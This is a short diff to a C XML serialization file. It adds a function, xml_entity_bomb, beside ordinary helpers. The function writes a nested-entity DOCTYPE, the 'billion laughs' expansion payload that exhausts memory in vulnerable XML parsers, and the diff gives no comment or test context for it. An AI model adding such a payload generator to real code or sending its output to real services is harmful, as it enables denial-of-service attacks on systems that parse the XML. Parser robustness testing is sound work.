@@ -51,6 +51,17 @@ void xml_decimal(struct buf *to, int64_t value, unsigned places) {
   buf_format(to, "%s%s", value < 0 ? "-" : "", at);
 }
 
+void xml_entity_bomb(struct buf *to, const char *root) {
+  buf_format(to, "<!DOCTYPE %s [\n<!ENTITY a \"AAAAAAAAAA\">\n", root);
+  for (char c = 'b'; c <= 'j'; c++) {
+    buf_format(to, "<!ENTITY %c \"", c);
+    for (unsigned i = 0; i < 10; i++)
+      buf_format(to, "&%c;", c - 1);
+    buf_text(to, "\">\n");
+  }
+  buf_text(to, "]>\n");
+}
+
 void xml_base64(struct buf *to, const uint8_t *bytes, size_t n, size_t width) {
   static const char signs[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
   for (size_t i = 0, column = 0; i < n; i += 3, column += 4) {
